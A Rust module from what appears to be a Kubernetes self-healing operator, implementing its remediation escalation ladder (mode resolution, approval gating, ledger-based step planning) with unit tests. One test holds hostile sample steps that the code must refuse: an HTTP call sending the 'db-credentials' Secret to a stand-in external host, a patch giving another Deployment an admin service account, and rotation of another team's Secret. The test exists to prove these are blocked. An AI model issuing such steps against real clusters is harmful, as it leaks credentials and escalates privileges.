//! The escalation ladder as pure functions: which ladder applies to an
//! incident, and from the step ledger and what verification observed, the
//! one next thing to do.
//!
//! The ledger is the only memory: a step is recorded (Pending) before it
//! runs, and a recorded step is never planned again. A ledger entry is tied
//! to its rung by identity (rule, step name, action), not by position, so a
//! policy edited mid-incident (it is kept in Git) never makes a recorded
//! step run as another action: a step that left the ladder is skipped, one
//! that stayed keeps its record, and new steps are tried after.

use std::time::Duration;

use k8s_openapi::jiff::Timestamp;
use kube::ResourceExt;

use super::actions::{self, AnyAction};
use crate::{
    crd::{
        Action, Incident, Mode, PolicyRule, RemediationPolicy, Safety, StepRecord, StepResult,
        Verify,
    },
    names::BREAKER_RESET_ANNOTATION,
    workload::Workload,
};

/// What verification saw of the target right now.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Health {
    /// Rollout complete and the rule's symptom gone (every replica ready without a rule).
    Healthy,
    /// Not (yet) healthy.
    Unhealthy,
}

/// Timing of verification.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Timing {
    /// How long a step may take to bring the target to healthy.
    pub timeout: Duration,
    /// How long the target must then stay healthy.
    pub hold_down: Duration,
}

/// One rung: an action, the mode it runs in and how it is verified.
#[derive(Clone, Debug, PartialEq)]
pub struct Rung {
    pub action: Action,
    pub mode: Mode,
    /// Why the policy lets this step be no more than a dry run.
    pub limited: Option<String>,
    pub timing: Timing,
}

impl Rung {
    pub fn name(&self) -> &str {
        self.action.step_name()
    }

    /// The action the rung's kind names.
    pub fn act(&self) -> &'static dyn AnyAction {
        actions::resolve(self.action.action)
    }
}

impl Ladder {
    /// Whether the step `name` of ladder round `round` is approved: an
    /// approval of it for that round, by the approver it names if it names
    /// one (a restoreData step).
    pub fn approved(&self, approvals: &[crate::crd::Approval], name: &str, round: i32) -> bool {
        let approver = self
            .rungs
            .iter()
            .find(|rung| rung.name() == name)
            .and_then(|rung| rung.action.restore_data.as_ref())
            .map(|settings| settings.approver.as_str());
        approvals.iter().any(|a| {
            a.step == name
                && a.round.unwrap_or(1) == round
                && approver.is_none_or(|who| a.by == who)
        })
    }
}

/// The ladder that applies to an incident and how it runs.
#[derive(Clone, Debug, PartialEq)]
pub struct Ladder {
    pub rungs: Vec<Rung>,
    /// The rule the rungs come from; None for an incident's own actions.
    pub rule_name: Option<String>,
    /// The rule whose symptom verification watches (also for an incident's
    /// own actions, when it names a rule).
    pub rule: Option<PolicyRule>,
    /// Verification of a step that has left the ladder.
    pub default_timing: Timing,
    /// The policy whose safety limits apply (defaults without one).
    pub policy: Option<String>,
    pub safety: Safety,
    pub breaker_reset_at: Option<Timestamp>,
}

impl Ladder {
    /// The rung a ledger entry was recorded from, if it is still in the ladder.
    pub fn rung_of(&self, record: &StepRecord) -> Option<&Rung> {
        self.rungs.iter().find(|rung| {
            rung.name() == record.name
                && rung.action.action == record.action
                // Entries recorded before rules were kept match any rule.
                && record.rule.as_deref().is_none_or(|rule| Some(rule) == self.rule_name.as_deref())
        })
    }

    fn tried(&self, ledger: &[StepRecord], rung: &Rung) -> bool {
        ledger.iter().any(|record| {
            self.rung_of(record)
                .is_some_and(|found| std::ptr::eq(found, rung))
        })
    }
}

/// The incident's own actions, else its policy rule's; None when there are
/// none. `guarded`: whether the policy's targets select the incident's
/// target. The policy is the authority over what runs for real: without
/// it, or on a target it does not guard, or for an own action it does not
/// allow, a step is a dry run; an incident's mode only tightens.
pub fn resolve(
    incident: &Incident,
    policy: Option<&RemediationPolicy>,
    guarded: bool,
) -> Option<Ladder> {
    let spec = &incident.spec;
    let rule_name = spec.rule.as_ref().or(spec.source.rule.as_ref());
    let rule = policy.and_then(|p| p.spec.rules.iter().find(|r| Some(&r.name) == rule_name));
    let (steps, verify, from_rule) = match (&spec.actions, rule) {
        (Some(actions), rule) => (
            actions.clone(),
            rule.map(|r| r.verify.clone()).unwrap_or_default(),
            None,
        ),
        (None, Some(rule)) => (rule.actions.clone(), rule.verify.clone(), Some(&rule.name)),
        (None, None) => return None,
    };
    let own = from_rule.is_none();
    let rungs = steps
        .into_iter()
        .map(|action| {
            let (mut mode, limited) = authorized_mode(&action, own, spec.mode, policy, guarded);
            if actions::resolve(action.action).needs_approval(&action, spec.incident_type) {
                mode = mode.tightened_by(Mode::RequireApproval);
            }
            Rung {
                mode,
                limited,
                timing: timing(&action, &verify),
                action,
            }
        })
        .collect();
    Some(Ladder {
        rungs,
        rule_name: from_rule.cloned(),
        rule: rule.cloned(),
        default_timing: Timing {
            timeout: verify.timeout.as_std(),
            hold_down: verify.hold_down.as_std(),
        },
        policy: policy.map(|p| p.name_any()),
        safety: policy.map(|p| p.spec.safety.clone()).unwrap_or_default(),
        breaker_reset_at: policy
            .and_then(|p| p.annotations().get(BREAKER_RESET_ANNOTATION))
            .and_then(|t| t.parse().ok()),
    })
}

/// Whether `policy` guards `workload` (its targets select it).
pub fn guards(policy: Option<&RemediationPolicy>, workload: Option<&Workload>) -> bool {
    match (policy, workload) {
        (Some(policy), Some(workload)) => policy
            .spec
            .targets
            .iter()
            .any(|target| workload.is_selected_by(target)),
        _ => false,
    }
}

/// The mode a step runs in, and why it is a dry run when the policy does
/// not let it be more. A policy rule's step runs in its own mode, else the
/// policy's; an incident's own step in the policy's mode if the policy
/// allows its action. The step's and the incident's own modes only tighten.
pub fn authorized_mode(
    step: &Action,
    own: bool,
    incident_mode: Option<Mode>,
    policy: Option<&RemediationPolicy>,
    guarded: bool,
) -> (Mode, Option<String>) {
    let base = match policy {
        None => Err("no RemediationPolicy is named".to_owned()),
        Some(policy) if !guarded => Err(format!(
            "RemediationPolicy {} does not guard the target",
            policy.name_any()
        )),
        // What a step calls or runs is the policy's to choose, never an
        // Incident writer's (whatever allowedActions says).
        Some(_) if own && actions::resolve(step.action).policy_only() => Err(format!(
            "an Incident's own {} step never runs: what it calls, runs or changes belongs in a RemediationPolicy rule",
            step.action
        )),
        Some(policy) if own && !policy.spec.incidents.allowed_actions.contains(&step.action) => {
            Err(format!(
                "RemediationPolicy {} does not allow incidents their own {} \
                 (spec.incidents.allowedActions)",
                policy.name_any(),
                step.action
            ))
        }
        Some(policy) if own => Ok(policy.spec.mode),
        Some(policy) => Ok(step.mode.unwrap_or(policy.spec.mode)),
    };
    let (mut mode, limited) = match base {
        Ok(mode) => (mode, None),
        Err(why) => (Mode::DryRun, Some(format!("{why}: a dry run only"))),
    };
    if own && let Some(step_mode) = step.mode {
        mode = mode.tightened_by(step_mode);
    }
    if let Some(incident_mode) = incident_mode {
        mode = mode.tightened_by(incident_mode);
    }
    (mode, limited)
}

fn timing(step: &Action, verify: &Verify) -> Timing {
    Timing {
        timeout: step.timeout.map_or(verify.timeout.as_std(), |t| t.as_std()),
        hold_down: verify.hold_down.as_std(),
    }
}

/// The next thing the remediation loop should do. `entry` indexes the
/// ledger, `rung` the ladder.
#[derive(Clone, Debug, PartialEq)]
pub enum Next {
    /// Record rung `rung` as Pending (or AwaitingApproval), before anything runs.
    Record {
        rung: usize,
        awaiting_approval: bool,
    },
    /// A step waits for approval that has now been given: make it Pending.
    Approved { entry: usize },
    /// Apply the Pending entry, from its rung.
    Execute { entry: usize, rung: usize },
    /// A Pending or AwaitingApproval entry whose step has left the ladder:
    /// it never runs.
    Orphaned { entry: usize },
    /// The entry is verifying; the target became healthy just now.
    HealthySince { entry: usize },
    /// The entry was applied but the target turned unhealthy again.
    Relapsed { entry: usize },
    /// The entry held healthy through the hold-down: resolved.
    Succeeded { entry: usize },
    /// The entry did not bring recovery in time.
    Failed { entry: usize, reason: String },
    /// Every step was tried and none helped.
    Exhausted,
    /// In DryRun every step is recorded as DryRun; this is the end.
    DryRunComplete,
    /// Nothing to do until `Some(time)` (or until something changes).
    Wait(Option<Timestamp>),
}

/// Decides the next move. `approved(name)` tells whether a responder
/// approved a step. Only the entries of the current `round` count: an
/// incident reopened after resolution runs its ladder again (round 2, ...),
/// its earlier entries kept as the record; from the rung after the one whose
/// fix did not last (relapsed), so a fix that does not hold is not repeated.
pub fn next(
    ladder: &Ladder,
    ledger: &[StepRecord],
    round: i32,
    approved: impl Fn(&str) -> bool,
    health: Health,
    now: Timestamp,
) -> Next {
    let first = ledger
        .iter()
        .position(|record| record.attempt >= round)
        .unwrap_or(ledger.len());
    let current = &ledger[first..];
    let from = ledger[..first]
        .iter()
        .rev()
        .find(|record| record.relapsed_at.is_some())
        .and_then(|record| ladder.rung_of(record))
        .and_then(|relapsed| ladder.rungs.iter().position(|r| std::ptr::eq(r, relapsed)))
        .map_or(0, |index| index + 1);
    let Some(last) = current.last() else {
        return record_untried(ladder, current, &approved, None, from);
    };
    let entry = ledger.len() - 1;
    let rung = ladder.rung_of(last);
    match last.result {
        StepResult::AwaitingApproval | StepResult::Pending if rung.is_none() => {
            Next::Orphaned { entry }
        }
        StepResult::AwaitingApproval => {
            if approved(&last.name) {
                Next::Approved { entry }
            } else {
                Next::Wait(None)
            }
        }
        StepResult::Pending => {
            let rung = ladder
                .rungs
                .iter()
                .position(|r| rung.is_some_and(|found| std::ptr::eq(found, r)))
                .unwrap_or_default();
            Next::Execute { entry, rung }
        }
        StepResult::Verifying => {
            let timing = rung.map_or(ladder.default_timing, |r| r.timing);
            verify(entry, last, timing, health, now)
        }
        StepResult::Failed | StepResult::Skipped | StepResult::DryRun => {
            record_untried(ladder, current, &approved, Some(last.result), from)
        }
        StepResult::Succeeded => Next::Wait(None),
    }
}

fn verify(entry: usize, last: &StepRecord, timing: Timing, health: Health, now: Timestamp) -> Next {
    let started = last.started_at.as_ref().map_or(now, |t| t.0);
    match (health, last.healthy_since.as_ref().map(|t| t.0)) {
        (Health::Healthy, None) => Next::HealthySince { entry },
        (Health::Healthy, Some(since)) => {
            let due = add(crate::k8s::end_of_second(since), timing.hold_down);
            if now >= due {
                Next::Succeeded { entry }
            } else {
                Next::Wait(Some(due))
            }
        }
        (Health::Unhealthy, Some(_)) => Next::Relapsed { entry },
        (Health::Unhealthy, None) => {
            let deadline = add(started, timing.timeout);
            if now >= deadline {
                Next::Failed {
                    entry,
                    reason: not_healthy_within(timing.timeout),
                }
            } else {
                Next::Wait(Some(deadline))
            }
        }
    }
}

/// The first rung from `from` on not tried yet; the end of the ladder when
/// there is none.
fn record_untried(
    ladder: &Ladder,
    ledger: &[StepRecord],
    approved: &impl Fn(&str) -> bool,
    last: Option<StepResult>,
    from: usize,
) -> Next {
    let untried = ladder
        .rungs
        .iter()
        .enumerate()
        .skip(from)
        .find(|(_, rung)| !ladder.tried(ledger, rung))
        .map(|(index, _)| index);
    match untried {
        Some(index) => {
            let rung = &ladder.rungs[index];
            Next::Record {
                rung: index,
                awaiting_approval: rung.mode == Mode::RequireApproval && !approved(rung.name()),
            }
        }
        None if last == Some(StepResult::DryRun) => Next::DryRunComplete,
        None => Next::Exhausted,
    }
}

/// A ladder of no rungs that still concludes the verification of a step
/// applied before its policy (or rule) went away: by the default timing,
/// and by every replica being ready, as there is no rule to watch.
pub fn remnant() -> Ladder {
    let verify = Verify::default();
    Ladder {
        rungs: Vec::new(),
        rule_name: None,
        rule: None,
        default_timing: Timing {
            timeout: verify.timeout.as_std(),
            hold_down: verify.hold_down.as_std(),
        },
        policy: None,
        safety: Safety::default(),
        breaker_reset_at: None,
    }
}

fn add(at: Timestamp, duration: Duration) -> Timestamp {
    at.checked_add(duration).unwrap_or(Timestamp::MAX)
}

/// How a step whose target did not recover in time is failed; read back
/// by `replay` to tell a verification that failed from a refusal.
pub const NOT_HEALTHY_WITHIN: &str = "not healthy within";

/// The reason of a step not healthy within `timeout`.
pub fn not_healthy_within(timeout: std::time::Duration) -> String {
    format!(
        "{NOT_HEALTHY_WITHIN} {}",
        crate::crd::duration::spoken(timeout)
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::crd::ActionKind;
    use k8s_openapi::apimachinery::pkg::apis::meta::v1::Time;
    use serde_json::json;

    const TIMING: Timing = Timing {
        timeout: Duration::from_secs(300),
        hold_down: Duration::from_secs(60),
    };

    fn ladder_of(steps: serde_json::Value, modes: &[Mode]) -> Ladder {
        let actions: Vec<Action> = serde_json::from_value(steps).unwrap();
        Ladder {
            rungs: actions
                .into_iter()
                .zip(modes)
                .map(|(action, mode)| Rung {
                    action,
                    mode: *mode,
                    limited: None,
                    timing: TIMING,
                })
                .collect(),
            rule_name: Some("crash".into()),
            rule: None,
            default_timing: TIMING,
            policy: None,
            safety: Safety::default(),
            breaker_reset_at: None,
        }
    }

    fn two_steps() -> Ladder {
        ladder_of(
            json!([{"action": "rollback"}, {"action": "restart"}]),
            &[Mode::Auto, Mode::Auto],
        )
    }

    fn at(text: &str) -> Timestamp {
        text.parse().unwrap()
    }

    fn entry(
        name: &str,
        action: ActionKind,
        result: StepResult,
        started: &str,
        healthy_since: Option<&str>,
    ) -> StepRecord {
        StepRecord {
            replacing: Vec::new(),
            relapsed_at: None,
            id: format!("abc-{name}-1"),
            name: name.into(),
            action,
            rule: Some("crash".into()),
            attempt: 1,
            result,
            started_at: Some(Time(at(started))),
            finished_at: None,
            healthy_since: healthy_since.map(|t| Time(at(t))),
            message: None,
            changes: vec![],
            verification: Vec::new(),
            applying_since: None,
            workflow: None,
        }
    }

    fn rollback(result: StepResult) -> StepRecord {
        entry(
            "rollback",
            ActionKind::Rollback,
            result,
            "2026-01-01T00:00:00Z",
            None,
        )
    }

    fn decide(ledger: &[StepRecord], health: Health, now: &str) -> Next {
        next(&two_steps(), ledger, 1, |_| false, health, at(now))
    }

    #[test]
    fn the_ladder_starts_by_recording_its_first_step() {
        assert_eq!(
            decide(&[], Health::Unhealthy, "2026-01-01T00:00:00Z"),
            Next::Record {
                rung: 0,
                awaiting_approval: false
            }
        );
    }

    #[test]
    fn each_result_of_the_last_entry_leads_to_one_move() {
        use Health::*;
        let verifying = rollback(StepResult::Verifying);
        let holding = entry(
            "rollback",
            ActionKind::Rollback,
            StepResult::Verifying,
            "2026-01-01T00:00:00Z",
            Some("2026-01-01T00:01:00Z"),
        );
        let cases: Vec<(StepRecord, Health, &str, Next)> = vec![
            (
                rollback(StepResult::Pending),
                Unhealthy,
                "2026-01-01T00:00:01Z",
                Next::Execute { entry: 0, rung: 0 },
            ),
            (
                verifying.clone(),
                Unhealthy,
                "2026-01-01T00:01:00Z",
                Next::Wait(Some(at("2026-01-01T00:05:00Z"))),
            ),
            (
                verifying.clone(),
                Healthy,
                "2026-01-01T00:01:00Z",
                Next::HealthySince { entry: 0 },
            ),
            (
                verifying,
                Unhealthy,
                "2026-01-01T00:05:00Z",
                Next::Failed {
                    entry: 0,
                    reason: "not healthy within 5 minutes".into(),
                },
            ),
            (
                holding.clone(),
                Healthy,
                "2026-01-01T00:01:30Z",
                Next::Wait(Some(at("2026-01-01T00:02:01Z"))),
            ),
            // Healthy since 00:01:00 may mean 00:01:00.999: a minute has
            // surely passed at 00:02:01.
            (
                holding.clone(),
                Healthy,
                "2026-01-01T00:02:00Z",
                Next::Wait(Some(at("2026-01-01T00:02:01Z"))),
            ),
            (
                holding.clone(),
                Healthy,
                "2026-01-01T00:02:01Z",
                Next::Succeeded { entry: 0 },
            ),
            (
                holding,
                Unhealthy,
                "2026-01-01T00:01:30Z",
                Next::Relapsed { entry: 0 },
            ),
            (
                rollback(StepResult::Failed),
                Unhealthy,
                "2026-01-01T00:05:01Z",
                Next::Record {
                    rung: 1,
                    awaiting_approval: false,
                },
            ),
            (
                rollback(StepResult::Skipped),
                Unhealthy,
                "2026-01-01T00:05:01Z",
                Next::Record {
                    rung: 1,
                    awaiting_approval: false,
                },
            ),
            (
                rollback(StepResult::Succeeded),
                Healthy,
                "2026-01-01T00:05:01Z",
                Next::Wait(None),
            ),
            (
                rollback(StepResult::AwaitingApproval),
                Unhealthy,
                "2026-01-01T00:05:01Z",
                Next::Wait(None),
            ),
        ];
        for (record, health, now, expected) in cases {
            let result = record.result;
            assert_eq!(
                decide(&[record], health, now),
                expected,
                "{result:?} {health:?} at {now}"
            );
        }
    }

    #[test]
    fn a_ladder_tried_to_the_end_is_exhausted_or_a_complete_dry_run() {
        let failed = [
            rollback(StepResult::Failed),
            entry(
                "restart",
                ActionKind::Restart,
                StepResult::Failed,
                "2026-01-01T00:05:01Z",
                None,
            ),
        ];
        assert_eq!(
            decide(&failed, Health::Unhealthy, "2026-01-01T00:11:00Z"),
            Next::Exhausted
        );
        let dry = [
            rollback(StepResult::DryRun),
            entry(
                "restart",
                ActionKind::Restart,
                StepResult::DryRun,
                "2026-01-01T00:00:01Z",
                None,
            ),
        ];
        assert_eq!(
            decide(&dry, Health::Unhealthy, "2026-01-01T00:00:02Z"),
            Next::DryRunComplete
        );
    }

    #[test]
    fn approval_gates_a_step() {
        let ladder = ladder_of(
            json!([{"action": "rollback"}, {"action": "restart"}]),
            &[Mode::RequireApproval, Mode::Auto],
        );
        let now = at("2026-01-01T00:01:00Z");
        assert_eq!(
            next(&ladder, &[], 1, |_| false, Health::Unhealthy, now),
            Next::Record {
                rung: 0,
                awaiting_approval: true
            }
        );
        assert_eq!(
            next(&ladder, &[], 1, |s| s == "rollback", Health::Unhealthy, now),
            Next::Record {
                rung: 0,
                awaiting_approval: false
            },
            "approved before it was asked for"
        );
        let waiting = [rollback(StepResult::AwaitingApproval)];
        assert_eq!(
            next(&ladder, &waiting, 1, |_| false, Health::Unhealthy, now),
            Next::Wait(None)
        );
        assert_eq!(
            next(
                &ladder,
                &waiting,
                1,
                |s| s == "rollback",
                Health::Unhealthy,
                now
            ),
            Next::Approved { entry: 0 }
        );
    }

    #[test]
    fn a_policy_edited_under_a_running_ladder_never_runs_a_step_as_another_action() {
        let now = at("2026-01-01T00:01:00Z");
        // The rollback was recorded; then the rule's first step became a scale.
        let edited = ladder_of(
            json!([{"action": "scale", "name": "rollback", "scale": {"replicas": 5}}, {"action": "restart"}]),
            &[Mode::Auto, Mode::Auto],
        );
        let pending = [rollback(StepResult::Pending)];
        assert_eq!(
            next(&edited, &pending, 1, |_| false, Health::Unhealthy, now),
            Next::Orphaned { entry: 0 },
            "same name, other action: not the same step"
        );
        // The recorded step moved down the ladder: it runs from its new rung.
        let reordered = ladder_of(
            json!([{"action": "restart"}, {"action": "rollback"}]),
            &[Mode::Auto, Mode::Auto],
        );
        assert_eq!(
            next(&reordered, &pending, 1, |_| false, Health::Unhealthy, now),
            Next::Execute { entry: 0, rung: 1 }
        );
        // After it failed, the untried restart (now first) is next, and the
        // failed rollback is not tried again.
        let failed = [rollback(StepResult::Failed)];
        assert_eq!(
            next(&reordered, &failed, 1, |_| false, Health::Unhealthy, now),
            Next::Record {
                rung: 0,
                awaiting_approval: false
            }
        );
        // The rule was renamed: the same-named step of another rule is another step.
        let mut renamed = two_steps();
        renamed.rule_name = Some("crash-v2".into());
        assert_eq!(
            next(&renamed, &pending, 1, |_| false, Health::Unhealthy, now),
            Next::Orphaned { entry: 0 }
        );
        // A step verifying when it left the ladder is still verified, by the defaults.
        let verifying = [rollback(StepResult::Verifying)];
        let gone = ladder_of(json!([{"action": "restart"}]), &[Mode::Auto]);
        assert_eq!(
            next(
                &gone,
                &verifying,
                1,
                |_| false,
                Health::Unhealthy,
                at("2026-01-01T00:05:00Z")
            ),
            Next::Failed {
                entry: 0,
                reason: "not healthy within 5 minutes".into()
            }
        );
    }

    #[test]
    fn a_reopened_incident_runs_its_ladder_again_from_the_first_step() {
        let succeeded = [rollback(StepResult::Succeeded)];
        let now = at("2026-01-01T01:00:00Z");
        assert_eq!(
            next(
                &two_steps(),
                &succeeded,
                1,
                |_| false,
                Health::Unhealthy,
                now
            ),
            Next::Wait(None),
            "the first round is over"
        );
        assert_eq!(
            next(
                &two_steps(),
                &succeeded,
                2,
                |_| false,
                Health::Unhealthy,
                now
            ),
            Next::Record {
                rung: 0,
                awaiting_approval: false
            }
        );
        let mut again = rollback(StepResult::Failed);
        again.attempt = 2;
        assert_eq!(
            next(
                &two_steps(),
                &[succeeded[0].clone(), again],
                2,
                |_| false,
                Health::Unhealthy,
                now
            ),
            Next::Record {
                rung: 1,
                awaiting_approval: false
            },
            "within the round, what was tried is not tried again"
        );
    }

    fn policy(mode: &str, allowed: &[&str]) -> RemediationPolicy {
        serde_json::from_value(serde_json::json!({
            "apiVersion": "healing-guard.io/v1alpha1", "kind": "RemediationPolicy",
            "metadata": {"name": "guard"},
            "spec": {"mode": mode, "incidents": {"allowedActions": allowed},
                     "targets": [{"kind": "Deployment", "names": ["api"]}],
                     "rules": [{"name": "crash", "when": {"symptom": "CrashLoopBackOff"},
                                "severity": "P0", "type": "ServiceOutage",
                                "actions": [{"action": "rollback"},
                                            {"action": "restart", "mode": "Auto"}]}]}
        }))
        .unwrap()
    }

    fn incident(mode: Option<&str>, actions: Option<serde_json::Value>) -> Incident {
        let mut spec = serde_json::json!({
            "title": "t", "severity": "P1", "type": "ServiceOutage",
            "target": {"kind": "Deployment", "name": "api"},
            "policy": "guard", "rule": "crash"
        });
        if let Some(mode) = mode {
            spec["mode"] = mode.into();
        }
        if let Some(actions) = actions {
            spec["actions"] = actions;
        }
        serde_json::from_value(serde_json::json!({
            "apiVersion": "healing-guard.io/v1alpha1", "kind": "Incident",
            "metadata": {"name": "i"}, "spec": spec
        }))
        .unwrap()
    }

    fn modes(ladder: &Ladder) -> Vec<(Mode, bool)> {
        ladder
            .rungs
            .iter()
            .map(|r| (r.mode, r.limited.is_some()))
            .collect()
    }

    #[test]
    fn an_incident_cannot_do_more_than_its_policy_allows() {
        use Mode::{Auto, DryRun, RequireApproval};
        let approving = policy("RequireApproval", &[]);
        // The rule's ladder in the policy's mode; a step's own mode in the policy is the author's.
        let ladder = resolve(&incident(None, None), Some(&approving), true).unwrap();
        assert_eq!(modes(&ladder), [(RequireApproval, false), (Auto, false)]);
        // An incident's mode only tightens: Auto asks for nothing more, DryRun takes everything down.
        let ladder = resolve(&incident(Some("Auto"), None), Some(&approving), true).unwrap();
        assert_eq!(modes(&ladder), [(RequireApproval, false), (Auto, false)]);
        let ladder = resolve(&incident(Some("DryRun"), None), Some(&approving), true).unwrap();
        assert_eq!(modes(&ladder), [(DryRun, false), (DryRun, false)]);
        // A target the policy does not guard: a dry run, and why.
        let ladder = resolve(&incident(None, None), Some(&approving), false).unwrap();
        assert_eq!(modes(&ladder), [(DryRun, true), (DryRun, true)]);
        assert_eq!(
            ladder.rungs[0].limited.as_deref(),
            Some("RemediationPolicy guard does not guard the target: a dry run only")
        );

        // Own actions: only those the policy allows run, in its mode at most.
        let own = serde_json::json!([
            {"action": "scale", "scale": {"replicas": 8, "maxReplicas": 8}, "mode": "Auto"},
            {"action": "restart"}
        ]);
        let automatic = policy("Auto", &["scale"]);
        let ladder = resolve(
            &incident(Some("Auto"), Some(own.clone())),
            Some(&automatic),
            true,
        )
        .unwrap();
        assert_eq!(modes(&ladder), [(Auto, false), (DryRun, true)]);
        assert!(
            ladder.rungs[1]
                .limited
                .as_deref()
                .unwrap()
                .contains("does not allow incidents their own restart")
        );
        let ladder = resolve(&incident(None, Some(own.clone())), Some(&approving), true).unwrap();
        assert_eq!(
            modes(&ladder),
            [(DryRun, true), (DryRun, true)],
            "approving allows no own actions"
        );
        // A call, an object or a Secret an Incident writer chose is never
        // acted on, whatever the policy says (an older schema may have let
        // them into allowedActions).
        for (kind, step) in [
            (
                "http",
                serde_json::json!({"action": "http",
                "http": {"url": "http://elsewhere.example/collect", "headersFrom": {"name": "db-credentials"}}}),
            ),
            (
                "patch",
                serde_json::json!({"action": "patch", "patch": {"apiVersion": "apps/v1",
                "kind": "Deployment", "name": "other", "patch": {"spec": {"template": {"spec": {"serviceAccountName": "admin"}}}}}}),
            ),
            (
                "rotateSecret",
                serde_json::json!({"action": "rotateSecret",
                "rotateSecret": {"secret": "other-team", "key": "password"}}),
            ),
        ] {
            let careless = policy("Auto", &[kind]);
            let own = serde_json::json!([step]);
            let ladder =
                resolve(&incident(Some("Auto"), Some(own)), Some(&careless), true).unwrap();
            assert_eq!(modes(&ladder), [(DryRun, true)], "{kind}");
            assert!(
                ladder.rungs[0]
                    .limited
                    .as_deref()
                    .unwrap()
                    .contains("belongs in a RemediationPolicy rule"),
                "{kind}: {:?}",
                ladder.rungs[0].limited
            );
        }
        // No policy at all: everything is a dry run.
        let mut alone = incident(Some("Auto"), Some(own));
        alone.spec.policy = None;
        alone.spec.rule = None;
        let ladder = resolve(&alone, None, false).unwrap();
        assert_eq!(modes(&ladder), [(DryRun, true), (DryRun, true)]);
    }
}
